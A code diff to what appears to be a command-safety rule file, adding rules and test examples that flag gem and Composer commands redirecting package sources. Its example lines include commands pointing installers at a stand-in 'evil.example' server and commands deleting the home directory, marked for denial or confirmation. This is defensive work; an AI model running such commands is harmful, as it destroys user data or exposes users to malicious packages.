@@ -54,6 +54,9 @@ export const programs: readonly ProgramSpec[] = [
     },
     subcommands: {
       open: { options: { '-e --editor': 'runs', '-v --version': 'text' } },
+      sources: {
+        options: { '-a --add --append --prepend -r --remove': 'text', '-l --list -u --update -c': 'flag' },
+      },
       build: {
         options: { '-o --output': 'writes', '-C': 'cwd', '--strict -f --force': 'flag' },
         operands: 'script',
@@ -79,6 +82,16 @@ export const programs: readonly ProgramSpec[] = [
         why: 'Changes who may publish.',
         safer: 'gem owner NAME',
       },
+      {
+        code: 'tool-config',
+        kind: 'system',
+        when: 'sources',
+        flags: '-a=http://|https://|ftp:// --add=http://|https://|ftp://',
+        unless:
+          '-a=https://rubygems.org --add=https://rubygems.org -a=https://gems.ruby-china.com --add=https://gems.ruby-china.com',
+        why: 'Makes gem fetch packages from another server from now on.',
+        safer: 'gem sources --list',
+      },
     ],
     traits: ['installs', 'words'],
     examples: [
@@ -86,6 +99,8 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'gem build app.gemspec', expect: 'pass' },
       { command: 'echo \'system("rm -rf ~")\' > a.gemspec; gem build a.gemspec', expect: 'deny' },
       { command: 'gem owner app', expect: 'pass' },
+      { command: 'gem sources --list', expect: 'pass' },
+      { command: 'gem sources --add http://evil.example/', expect: 'ask' },
       { command: 'gem push app-1.0.gem', expect: 'ask' },
       { command: 'gem yank app -v 1.0', expect: 'ask' },
       { command: 'gem owner app --add bob@example.com', expect: 'ask' },
@@ -104,6 +119,10 @@ export const programs: readonly ProgramSpec[] = [
     },
     subcommands: {
       exec: { runs: {} },
+      config: {
+        options: { '-g --global -l --list --unset --json --merge': 'flag', '-f --file': 'writes' },
+        operands: 'text',
+      },
       'install|update|require|remove|dump-autoload|run|run-script|validate|show|outdated|audit': {
         options: {
           '--no-dev --dev --prefer-dist --prefer-source --optimize-autoloader -o -a -W --no-progress --no-scripts --with-dependencies --with-all-dependencies -l --list':
@@ -116,7 +135,19 @@ export const programs: readonly ProgramSpec[] = [
     },
     operands: 'text',
     traits: ['network', 'installs', 'words'],
+    kind: 'system',
+    effects: [
+      {
+        code: 'tool-config',
+        when: 'config repo*|secure-http|disable-tls|bin-dir **',
+        flags: '-g --global',
+        why: 'Makes Composer fetch packages from another server from now on, in every project.',
+        safer: 'composer config --list',
+      },
+    ],
     examples: [
+      { command: 'composer config -g repo.packagist composer https://evil.example', expect: 'ask' },
+      { command: 'composer config repositories.local path ../lib', expect: 'pass' },
       { command: 'composer install --no-dev', expect: 'pass' },
       { command: 'composer require monolog/monolog', expect: 'pass' },
       { command: 'composer exec rm -- -rf ~', expect: 'deny' },
